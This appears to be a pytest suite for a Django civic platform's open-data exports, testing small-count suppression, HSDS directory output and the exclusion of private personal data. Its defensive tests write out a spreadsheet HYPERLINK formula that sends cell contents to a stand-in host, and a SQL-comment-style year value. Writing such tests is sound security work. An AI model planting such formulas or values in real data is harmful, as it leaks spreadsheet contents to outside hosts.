import csv
import io
import json
from datetime import date

import pytest
from django.urls import reverse

from trama.attention.models import Signal
from trama.initiatives.models import Initiative
from trama.insights.queries import open_counts
from trama.market import services as market
from trama.people.models import Organisation, Person, Role, Service
from trama.privacy.disclosure import protect
from trama.privacy.disclosure import recoverable_cells as recoverable
from trama.privacy.suppression import suppress_table
from trama.territory.models import Place

pytestmark = pytest.mark.django_db

# signals per (neighbourhood, quarter of 2025)
SIGNALS = {("Borgo Alto", 1): 3, ("Borgo Alto", 2): 12, ("Borgo Basso", 1): 15, ("Borgo Basso", 2): 11, ("Borgo Nuovo", 1): 20, ("Borgo Nuovo", 2): 2}


@pytest.fixture
def signals(neighbourhood, other_neighbourhood, make_neighbourhood, make_antenna, send_signal):
    where = {"Borgo Alto": neighbourhood, "Borgo Basso": other_neighbourhood, "Borgo Nuovo": make_neighbourhood("Borgo Nuovo")}
    antenna = make_antenna(neighbourhood)
    for (name, quarter), n in SIGNALS.items():
        for _i in range(n):
            send_signal(antenna, where[name], day=date(2025, 3 * quarter - 1, 10), text="Vive da sola e beve molto")


def test_small_counts_are_hidden_and_cannot_be_recovered_from_the_totals(city, signals):
    table = open_counts(city, 2025)[0]
    rows = dict(table["rows"])
    assert table["key"] == "segnalazioni"
    assert rows["Borgo Alto"][0].hidden and rows["Borgo Nuovo"][1].hidden  # 3 and 2: primary
    assert rows["Borgo Basso"][2].value == 0 and not rows["Borgo Basso"][2].hidden  # zero reveals nobody
    # Secondary suppression: no row or column has exactly one hidden cell...
    cells = [cells for _name, cells in table["rows"]]
    for line in cells + [list(column) for column in zip(*cells)]:
        assert sum(cell.hidden for cell in line) != 1
    # ...and no hidden cell can be worked out from what is shown.
    assert recoverable(cells) == []
    assert sum(cell.hidden for line in cells for cell in line) > 2


def test_shown_counts_and_totals_are_the_real_ones(city, signals):
    rows = dict(open_counts(city, 2025)[0]["rows"])
    assert rows["Borgo Basso"][0].value in (15, None)
    assert rows["Totale città"][4].value == sum(SIGNALS.values())


def test_the_page_and_the_csv_show_the_same_suppressed_table(client, city, signals):
    page = client.get(reverse("insights:open_data"), {"anno": "2025"})
    assert page.status_code == 200
    assert page.content.decode().count('data-hidden="1"') >= 4
    response = client.get(reverse("insights:open_data_csv"), {"anno": "2025"})
    assert response["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(response.content.decode())))
    assert lines[0] == ["misura", "quartiere", "anno", "periodo", "valore"]
    signal_lines = {(q, p): v for m, q, _y, p, v in lines[1:] if m == "segnalazioni"}
    assert signal_lines[("Borgo Alto", "1° trimestre")] == "riservato"
    assert signal_lines[("Totale città", "Anno")] == str(sum(SIGNALS.values()))
    for row in open_counts(city, 2025)[0]["rows"]:
        hidden_in_csv = [signal_lines[(row[0], column)] == "riservato" for column in open_counts(city, 2025)[0]["columns"]]
        assert hidden_in_csv == [cell.hidden for cell in row[1]]


@pytest.mark.parametrize("value", ["1999", "2999", "abcd", "<b>2025</b>", "2025' --", "２０２５", "9" * 2000])
def test_a_bad_year_is_a_400_never_a_500(client, city, value):
    assert client.get(reverse("insights:open_data"), {"anno": value}).status_code == 400
    assert client.get(reverse("insights:open_data_csv"), {"anno": value}).status_code == 400


@pytest.fixture
def directory(city, neighbourhood, users, make_organisation, make_person, make_antenna, send_signal):
    worker = users[Role.WORKER]
    ponte = make_organisation(
        description="Associazione di quartiere", email="info@ponte.example", website="https://ponte.example", public_page_agreed=True
    )
    hidden = make_organisation("Cooperativa Riservata", email="segreteria@riservata.example")  # did not agree to a public page
    market.record_offer(person=None, organisation=hidden, kind="space", title="Sala prove riservata", neighbourhoods=[neighbourhood], by=worker)
    Service.objects.create(organisation=hidden, name="Sportello riservato", opening_hours="lunedì 9-12")
    Place.objects.create(neighbourhood=neighbourhood, name="Magazzino di quartiere", managing_organisation=hidden)
    market.record_offer(person=None, organisation=ponte, kind="time", title="Doposcuola insieme", neighbourhoods=[neighbourhood], by=worker)
    paused = market.record_offer(person=None, organisation=ponte, kind="time", title="Cineforum sospeso", neighbourhoods=[neighbourhood], by=worker)
    market.set_offer_status(paused, "paused", by=worker)
    gino = make_person(name="Gino Pseudonimo", channel=Person.Channel.ANTENNA, known=False)
    market.record_offer(person=gino, organisation=None, kind="skill", title="Ripetizioni di Gino", neighbourhoods=[neighbourhood], by=worker)
    market.record_need(person=gino, text="Sfratto imminente, non riesco a pagare l'affitto", neighbourhood=neighbourhood, urgency="high", by=worker)
    signal = send_signal(make_antenna(neighbourhood), neighbourhood, day=date.today(), text="Beve molto e non mangia")
    Signal.objects.filter(pk=signal.pk).update(age_band=Signal.AgeBand.ELDERLY, household=Signal.Household.ALONE)
    point = Place.objects.create(
        neighbourhood=neighbourhood,
        name="Punto di comunità Ovest",
        kind=Place.Kind.COMMUNITY_POINT,
        lat=44.8,
        lon=10.3,
        opening_hours="martedì 15-18",
    )
    Place.objects.create(neighbourhood=neighbourhood, name="Sede riservata", is_public=False)
    Service.objects.create(organisation=ponte, name="Sportello compiti", opening_hours="mercoledì 16-18", place=point)
    return ponte


OPEN_URLS = [
    reverse("insights:open_data"),
    reverse("insights:open_data_csv"),
    reverse("insights:places"),
    reverse("insights:hsds_json"),
    reverse("insights:hsds_csv", args=["organizations"]),
    reverse("insights:hsds_csv", args=["services"]),
    reverse("insights:hsds_csv", args=["locations"]),
    reverse("insights:hsds_csv", args=["schedules"]),
    reverse("insights:hsds_csv", args=["service_at_locations"]),
]
PRIVATE_WORDS = [
    "Gino",
    "Pseudonimo",
    "Sfratto",
    "affitto",
    "Beve molto",
    "non mangia",
    "Vive da sola",
    "80 anni",
    "Sede riservata",
    "Cineforum sospeso",
    "fragile",
    # An organisation that did not agree to a public page, and whatever is hers.
    "Riservata",
    "riservata.example",
    "Sala prove riservata",
    "Sportello riservato",
    "lunedì 9-12",
]


@pytest.mark.parametrize("url", OPEN_URLS)
def test_open_data_never_shows_a_person_or_a_hardship(client, directory, url):
    response = client.get(url)
    assert response.status_code == 200
    body = response.content.decode()
    for word in PRIVATE_WORDS:
        assert word not in body, (url, word)


def test_places_are_geojson(client, directory):
    response = client.get(reverse("insights:places"))
    data = json.loads(response.content)
    assert response["Content-Type"] == "application/geo+json"
    assert data["type"] == "FeatureCollection"
    assert [f["properties"]["name"] for f in data["features"]] == ["Magazzino di quartiere", "Punto di comunità Ovest"]
    assert data["features"][1]["geometry"] == {"type": "Point", "coordinates": [10.3, 44.8]}


def test_the_directory_is_open_referral_hsds(client, directory):
    data = client.get(reverse("insights:hsds_json")).json()
    assert set(data) == {"organizations", "services", "locations", "schedules", "service_at_locations"}
    [organisation] = data["organizations"]
    assert organisation["name"] == "Associazione Il Ponte" and organisation["website"] == "https://ponte.example"
    assert [s["name"] for s in data["services"]] == ["Sportello compiti", "Doposcuola insieme"]
    assert {s["organization_id"] for s in data["services"]} == {organisation["id"]} and data["services"][0]["status"] == "active"
    # The manager of a public place is named only when she agreed to a public page.
    assert [(loc["name"], loc["latitude"], loc["organization_id"]) for loc in data["locations"]] == [
        ("Magazzino di quartiere", None, ""),
        ("Punto di comunità Ovest", 44.8, ""),
    ]
    [point] = [loc for loc in data["locations"] if loc["latitude"]]
    service = data["services"][0]
    assert {(h["service_id"] or h["location_id"], h["description"]) for h in data["schedules"]} == {
        (service["id"], "mercoledì 16-18"),
        (point["id"], "martedì 15-18"),
    }
    assert [(link["service_id"], link["location_id"]) for link in data["service_at_locations"]] == [(service["id"], point["id"])]
    assert len(organisation["id"]) == 36  # a UUID, as HSDS asks


def test_an_organisation_that_did_not_agree_is_nowhere_in_the_directory(client, directory):
    type(directory).objects.filter(pk=directory.pk).update(public_page_agreed=False)
    data = client.get(reverse("insights:hsds_json")).json()
    assert data["organizations"] == [] and data["services"] == [] and data["service_at_locations"] == []
    assert [h["description"] for h in data["schedules"]] == ["martedì 15-18"]  # the public place's own hours
    assert "Il Ponte" not in json.dumps(data, ensure_ascii=False)


def test_the_directory_tables_as_csv(client, directory):
    response = client.get(reverse("insights:hsds_csv", args=["services"]))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["name"] for r in rows] == ["Sportello compiti", "Doposcuola insieme"]
    assert client.get(reverse("insights:hsds_csv", args=["people"])).status_code == 404


def test_open_data_works_with_no_city(client, db):
    for url in OPEN_URLS:
        assert client.get(url).status_code == 200, url


def with_totals(rows):
    rows = [row + [sum(row)] for row in rows]
    return rows + [[sum(column) for column in zip(*rows)]]


def test_a_table_whose_hidden_counts_a_chain_of_totals_would_reveal_is_protected_further():
    # Found by trying random tables: suppression alone leaves two hidden cells of row 5 determined.
    grid = with_totals([[12, 20, 20, 20], [0, 9, 20, 2], [15, 15, 3, 15], [0, 8, 20, 15], [1, 15, 30, 8], [30, 3, 60, 1]])
    suppressed = suppress_table(grid, threshold=10)
    assert recoverable(suppressed)
    protected = protect(suppressed)
    assert recoverable(protected) == []
    assert all(cell.hidden for row in protected for cell in row if cell.value is not None and 0 < cell.value < 10)


def test_random_tables_of_small_counts_never_reveal_a_hidden_count():
    import random

    rng = random.Random(7)
    for _trial in range(300):
        grid = with_totals([[rng.choice([0, 1, 2, 5, 9, 10, 12, 20, 40]) for _c in range(4)] for _r in range(rng.randint(2, 7))])
        protected = protect(suppress_table(grid, threshold=10))
        assert recoverable(protected) == [], grid
        assert all(cell.hidden for row in protected for cell in row if cell.value is not None and 0 < cell.value < 10)


@pytest.fixture
def community(neighbourhood, other_neighbourhood, make_group, make_meeting, make_initiative, make_person, take_part, make_organisation):
    """12 groups of Borgo Alto born in the first quarter of 2025 and 11 of Borgo Basso in the second, each meeting once
    in the quarter it was born; public initiatives of 2025 (one in both neighbourhoods) and some that are not public."""
    for i in range(12):
        make_meeting(neighbourhood, date(2025, 2, 1), make_group(neighbourhood, date(2025, 1, 20), name=f"A{i}"))
    for i in range(11):
        make_meeting(other_neighbourhood, date(2025, 5, 1), make_group(other_neighbourhood, date(2025, 4, 20), name=f"B{i}"))
    accompanied = [(Initiative.Stage.INCUBATION, date(2025, 2, 1)), (Initiative.Stage.ACCOMPANIED, date(2025, 2, 2))]
    both = make_initiative([neighbourhood, other_neighbourhood], date(2025, 1, 10), accompanied, name="Orto di via Verdi", public=True)
    Initiative.objects.filter(pk=both.pk).update(
        origin_organisation=make_organisation("Orti insieme", public_page_agreed=True),
        contact_email="orto@example.org",
        how_to_join="Il sabato mattina",
    )
    take_part(both, make_person(name="Gino Pseudonimo"), date(2025, 2, 1))
    make_initiative([neighbourhood], date(2025, 2, 10), accompanied, name="Senza realtà", public=True)  # no organisation
    make_initiative([neighbourhood], date(2025, 2, 10), name="Solo un'idea", public=True)  # not public yet: an idea
    make_initiative([neighbourhood], date(2025, 2, 10), accompanied, name="Riservata")  # not in the catalogue


def test_groups_meetings_and_public_initiatives_by_neighbourhood_and_quarter(city, community):
    tables = {table["key"]: dict(table["rows"]) for table in open_counts(city, 2025)}
    groups = tables["gruppi"]
    assert groups["Borgo Alto"][0].value == 12 and groups["Borgo Alto"][4].value == 12
    assert groups["Borgo Basso"][1].value == 11 and groups["Borgo Basso"][0].value == 0
    assert groups["Totale città"][4].value == 23
    assert tables["incontri"]["Borgo Alto"][0].value == 12 and tables["incontri"]["Totale città"][4].value == 23
    # Orto di via Verdi and "Senza realtà" in Borgo Alto, Orto also in Borgo Basso: all small, all hidden.
    initiatives = tables["iniziative"]
    assert initiatives["Borgo Alto"][0].hidden and initiatives["Borgo Basso"][0].hidden
    assert initiatives["Totale città"][4].hidden or initiatives["Totale città"][4].value == 3


def test_public_initiatives_join_the_directory_as_services_of_their_organisation(client, city, community):
    data = client.get(reverse("insights:hsds_json")).json()
    organisations = {o["name"]: o["id"] for o in data["organizations"]}
    [service] = [s for s in data["services"] if s["name"] == "Orto di via Verdi"]
    assert service["organization_id"] == organisations["Orti insieme"]
    assert (service["email"], service["application_process"], service["status"]) == ("orto@example.org", "Il sabato mattina", "active")
    names = {s["name"] for s in data["services"]}
    assert not names & {"Senza realtà", "Solo un'idea", "Riservata"}
    assert "Gino" not in client.get(reverse("insights:hsds_json")).content.decode()
    rows = list(csv.DictReader(io.StringIO(client.get(reverse("insights:hsds_csv", args=["services"])).content.decode())))
    assert [r["name"] for r in rows] == ["Orto di via Verdi"]
    # Without the organisation's agreement to a public page, its initiatives are not in the directory.
    Organisation.objects.filter(name="Orti insieme").update(public_page_agreed=False)
    assert client.get(reverse("insights:hsds_json")).json()["services"] == []


# The fields Open Referral HSDS 3.0 requires of each table, and their types.
HSDS_SCHEMA = {
    "type": "object",
    "required": ["organizations", "services", "locations"],
    "properties": {
        "organizations": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["id", "name", "description"],
                "properties": {
                    "id": {"type": "string", "format": "uuid"},
                    "name": {"type": "string", "minLength": 1},
                    "description": {"type": "string"},
                    "email": {"type": "string"},
                    "website": {"type": "string"},
                },
            },
        },
        "services": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["id", "organization_id", "name", "status"],
                "properties": {
                    "id": {"type": "string"},
                    "organization_id": {"type": "string"},
                    "name": {"type": "string", "minLength": 1},
                    "description": {"type": "string"},
                    "email": {"type": "string"},
                    "application_process": {"type": "string"},
                    "status": {"enum": ["active", "inactive", "defunct", "temporarily closed"]},
                },
            },
        },
        "locations": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["id", "location_type"],
                "properties": {
                    "id": {"type": "string"},
                    "location_type": {"enum": ["physical", "postal", "virtual"]},
                    "latitude": {"type": ["number", "null"]},
                    "longitude": {"type": ["number", "null"]},
                    "organization_id": {"type": "string"},
                },
            },
        },
        "schedules": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["id"],
                "properties": {
                    "id": {"type": "string"},
                    "service_id": {"type": "string"},
                    "location_id": {"type": "string"},
                    "description": {"type": "string"},
                },
            },
        },
        "service_at_locations": {
            "type": "array",
            "items": {
                "type": "object",
                "required": ["id", "service_id", "location_id"],
                "properties": {"id": {"type": "string"}, "service_id": {"type": "string"}, "location_id": {"type": "string"}},
            },
        },
    },
}


def test_the_directory_follows_the_hsds_schema_and_every_service_has_its_organisation(client, directory, community):
    import jsonschema

    data = client.get(reverse("insights:hsds_json")).json()
    jsonschema.validate(data, HSDS_SCHEMA)
    organisations = {o["id"] for o in data["organizations"]}
    assert data["services"] and all(s["organization_id"] in organisations for s in data["services"])
    assert len({s["id"] for s in data["services"]}) == len(data["services"])


def test_a_title_that_looks_like_a_formula_goes_out_as_text(client, city, neighbourhood, users, directory):
    """Formula injection: the directory and the counts are opened in spreadsheets by whoever downloads them."""
    evil = '=HYPERLINK("http://x.example/?"&A1,"Aiuto")'
    market.record_offer(person=None, organisation=directory, kind="time", title=evil, neighbourhoods=[neighbourhood], by=users[Role.WORKER])
    directory.name = "@Associazione"
    directory.save()
    services = list(csv.DictReader(io.StringIO(client.get(reverse("insights:hsds_csv", args=["services"])).content.decode())))
    assert "'" + evil in [row["name"] for row in services]
    organisations = list(csv.DictReader(io.StringIO(client.get(reverse("insights:hsds_csv", args=["organizations"])).content.decode())))
    assert [row["name"] for row in organisations] == ["'@Associazione"]


def test_a_neighbourhood_name_that_looks_like_a_formula_goes_out_as_text_in_the_counts(client, city, signals, neighbourhood):
    neighbourhood.name = "-1+1"
    neighbourhood.save()
    lines = list(csv.reader(io.StringIO(client.get(reverse("insights:open_data_csv"), {"anno": "2025"}).content.decode())))
    names = {line[1] for line in lines[1:]}
    assert "'-1+1" in names and "-1+1" not in names
